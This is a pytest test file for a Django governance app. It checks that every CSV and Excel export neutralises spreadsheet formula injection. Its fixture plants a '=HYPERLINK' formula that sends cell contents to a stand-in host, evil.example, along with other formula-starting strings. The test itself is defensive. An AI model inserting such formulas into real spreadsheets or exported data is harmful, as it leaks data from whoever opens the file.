"""Every CSV and Excel download quotes text that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from lscb.exports import safe_cell
from lscb.views import TableView
from tests.factories import (
    AgencyFactory,
    AttendanceFactory,
    AuditFactory,
    BudgetLineFactory,
    ChallengeFactory,
    EvidenceFactory,
    GroupFactory,
    IndicatorFactory,
    MeetingFactory,
    MembershipFactory,
    PersonFactory,
    RecommendationFactory,
    ReviewFactory,
    TrainingAttendanceFactory,
    TrainingEventFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULA_START = ("=", "+", "-", "@")
# Arguments of list pages whose address needs some.
URL_ARGS = {"governance:calendar": ["2025-26"]}


def list_pages() -> list[str]:
    """The URL name of every page built on TableView (so a new list page is covered too)."""
    names = []

    def walk(patterns, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class is not None and issubclass(view_class, TableView) and pattern.name:
                    names.append(namespace + pattern.name)

    walk(get_resolver().url_patterns, "")
    return sorted(set(names))


@pytest.fixture
def hostile_board():
    """Every text that list pages show starts like a formula."""
    agency = AgencyFactory(name=HYPERLINK, short_name="+1+1", sector="police")
    group = GroupFactory(name=f"{HYPERLINK} group", short_name="-QEG", joint_with="@SUM(A1:A9)")
    person = PersonFactory(name=f"{HYPERLINK} person", agency=agency, job_title="-2+3")
    MembershipFactory(group=group, person=person, agency=agency)
    meeting = MeetingFactory(group=group, date=date(2025, 6, 3), status="held", note=HYPERLINK)
    AttendanceFactory(meeting=meeting, person=person, status="present")
    ChallengeFactory(agency=agency, subject=HYPERLINK, escalated_to="+44 1234", raised_on=date(2025, 6, 4))
    AuditFactory(name=f"{HYPERLINK} audit", group=group, agency=agency)
    EvidenceFactory(title=HYPERLINK, scope="-2+3", group=group, agency=agency, note="@SUM(A1:A9)")
    review = ReviewFactory(ref="RR-2025-01", title=f"{HYPERLINK} review", group=group)
    RecommendationFactory(review=review, text=HYPERLINK, lead_agency=agency)
    IndicatorFactory(name=f"{HYPERLINK} indicator", source=agency, description="-2+3")
    TrainingEventFactory(title=HYPERLINK, topic="@SUM(A1:A9)", date=date(2025, 6, 5))
    TrainingAttendanceFactory(
        event=TrainingEventFactory(title=f"{HYPERLINK} now", date=date.today()), agency=agency, booked=2
    )
    BudgetLineFactory(line=HYPERLINK, note="-2+3")


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell is a formula"
    return [cell.value for cell in cells]


def assert_neutralised(cells: list) -> None:
    texts = [value for value in cells if isinstance(value, str)]
    assert f"'{HYPERLINK}" in texts or any(t.startswith(f"'{HYPERLINK}") for t in texts)
    assert not [t for t in texts if t.startswith(FORMULA_START)]


def test_every_list_page_is_found():
    assert set(list_pages()) >= {
        "governance:agency-list",
        "governance:person-list",
        "governance:group-list",
        "governance:membership-list",
        "governance:calendar",
        "challengelog:challenge-list",
    }


@pytest.mark.parametrize("name", list_pages())
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_list_exports_quote_formulas(board, client_for, manager, hostile_board, name, fmt):
    response = client_for(manager).get(reverse(name, args=[board.slug, *URL_ARGS.get(name, [])]), {"_export": fmt})
    assert response.status_code == 200
    assert_neutralised(csv_cells(response) if fmt == "csv" else xlsx_cells(response))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attendance_exports_quote_formulas(board, client_for, manager, hostile_board, fmt):
    response = client_for(manager).get(f"/{board.slug}/attendance/2025-26/", {"_export": fmt})
    assert response.status_code == 200
    cells = csv_cells(response) if fmt == "csv" else xlsx_cells(response)
    assert_neutralised(cells)
    assert f"'{HYPERLINK} group" in cells


def test_an_exported_cell_keeps_its_text_and_loses_only_control_characters():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("'=1+1") == "''=1+1"  # quote() is undone exactly by unquote()
    assert safe_cell("Bell\x07 and\x00 NUL") == "Bell and NUL"
    assert safe_cell("Line one\nline two\ttab") == "Line one\nline two\ttab"
    assert safe_cell(-3) == -3  # numbers stay numbers
    assert safe_cell(None) is None
